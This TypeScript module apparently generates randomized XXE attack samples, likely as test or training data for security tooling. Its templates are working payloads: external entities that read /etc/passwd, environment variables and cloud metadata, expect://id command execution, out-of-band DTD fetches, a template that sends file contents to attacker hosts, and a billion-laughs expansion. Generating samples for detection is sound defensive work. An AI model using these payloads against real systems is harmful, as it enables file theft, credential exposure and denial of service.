import type { PayloadSample } from '../payload-sample.js';
import type { Rng } from '../rng.js';
import { ATTACKER_HOSTS } from '../templates.js';
import { distinctSamples } from './distinct.js';

const TARGETS = [
  'file:///etc/passwd',
  'file:///etc/hostname',
  'file:///c:/windows/win.ini',
  'file:///proc/self/environ',
  'php://filter/convert.base64-encode/resource=index.php',
  'php://filter/read=convert.base64-encode/resource=/etc/passwd',
  'expect://id',
  'http://169.254.169.254/latest/meta-data/',
  'file:///home/',
  'netdoc:///etc/passwd',
  'jar:file:///tmp/x.zip!/a.txt',
];
const ROOTS = [
  'foo',
  'root',
  'data',
  'user',
  'order',
  'request',
  'message',
  'svg',
  'r',
  'search',
  'methodCall',
  'stockCheck',
];

/** XXE documents: classic entities, parameter-entity OOB, XInclude, SVG, SOAP-embedded. */
export function generateXxe(rng: Rng, count: number): PayloadSample[] {
  return distinctSamples('xxe', 'xxe', count, rng, (r) => {
    const root = r.pick(ROOTS);
    const ent = r.pick(['xxe', 'x', 'file', 'ent', 'data', 'a']);
    const decl = r.chance(0.6)
      ? `<?xml version="1.0"${r.chance(0.5) ? ` encoding="${r.pick(['UTF-8', 'ISO-8859-1'])}"` : ''}?>`
      : '';
    const target = r.pick(TARGETS);
    const oob = `http://${r.pick(ATTACKER_HOSTS)}/${r.pick(['evil.dtd', 'x.dtd', 'oob', 'dtd.xml'])}`;
    return r.weighted<() => string>([
      [
        () =>
          `${decl}<!DOCTYPE ${root} [<!ELEMENT ${root} ANY ><!ENTITY ${ent} SYSTEM "${target}" >]><${root}>&${ent};</${root}>`,
        5,
      ],
      [
        () =>
          `${decl}<!DOCTYPE ${root} [<!ENTITY % ${ent} SYSTEM "${oob}"> %${ent};]><${root}>${r.pick(['test', '1', '&send;'])}</${root}>`,
        2,
      ],
      [() => `${decl}<!DOCTYPE ${root} SYSTEM "${oob}"><${root}>&${ent};</${root}>`, 1],
      [
        () =>
          `<${root} xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="${target}"/></${root}>`,
        1,
      ],
      [
        () =>
          `${decl}<!DOCTYPE svg [<!ENTITY ${ent} SYSTEM "${target}">]><svg xmlns="http://www.w3.org/2000/svg" width="100" height="100"><text x="10" y="20">&${ent};</text></svg>`,
        1,
      ],
      [
        () =>
          `${decl}<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><!DOCTYPE x [<!ENTITY ${ent} SYSTEM "${target}">]><soap:Body><${root}>&${ent};</${root}></soap:Body></soap:Envelope>`,
        0.5,
      ],
      [
        () =>
          `${decl}<!DOCTYPE ${root} [<!ENTITY a0 "lol"><!ENTITY a1 "&a0;&a0;&a0;&a0;&a0;&a0;&a0;&a0;"><!ENTITY a2 "&a1;&a1;&a1;&a1;&a1;&a1;&a1;&a1;">]><${root}>&a2;</${root}>`,
        0.5,
      ],
      [
        () =>
          `${decl}<!DOCTYPE ${root} [<!ENTITY % file SYSTEM "${target}"><!ENTITY % eval "<!ENTITY &#x25; exfil SYSTEM '${oob}?x=%file;'>">%eval;%exfil;]><${root}/>`,
        1,
      ],
    ])();
  });
}
